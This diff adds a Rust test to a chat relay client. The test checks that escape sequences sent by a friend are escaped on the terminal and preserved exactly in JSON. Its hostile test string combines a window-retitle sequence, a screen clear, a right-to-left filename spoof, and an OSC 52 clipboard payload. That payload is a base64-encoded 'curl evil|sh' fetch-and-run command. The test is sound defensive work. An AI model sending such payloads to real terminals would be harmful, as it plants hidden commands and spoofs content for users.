@@ -245,3 +245,30 @@ async fn readers_that_never_read_cost_the_relay_little_memory_and_an_account_few
         .await?;
     Ok(())
 }
+
+#[test]
+fn a_friends_escape_sequences_reach_the_terminal_escaped_and_json_exactly() -> Result<()> {
+    let relay = TestRelay::start()?;
+    let peers = uchat_tests::register_friends(&relay, &["alice", "bob"])?;
+    let (alice, bob) = (&peers[0], &peers[1]);
+    // Retitle the window, clear the screen, set the clipboard, reorder a line.
+    let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}ok \u{202e}txt.exe";
+    bob.send("alice", hostile)?;
+    let shown = alice.run(&["history", "bob"])?;
+    assert!(shown.status.success());
+    for control in [0x1b_u8, 0x07] {
+        assert!(
+            !shown.stdout.contains(&control),
+            "byte {control:#x} reached the terminal: {:?}",
+            String::from_utf8_lossy(&shown.stdout)
+        );
+    }
+    let text = String::from_utf8(shown.stdout)?;
+    assert!(text.contains("\\u{1b}]0;pwned\\u{7}"), "{text}");
+    assert!(text.contains("\\u{202e}txt.exe"), "{text}");
+    // JSON escapes it by itself, and carries the text exactly.
+    let history = alice.history("bob")?;
+    let texts = uchat_tests::texts(&history);
+    assert_eq!(texts, [hostile]);
+    Ok(())
+}
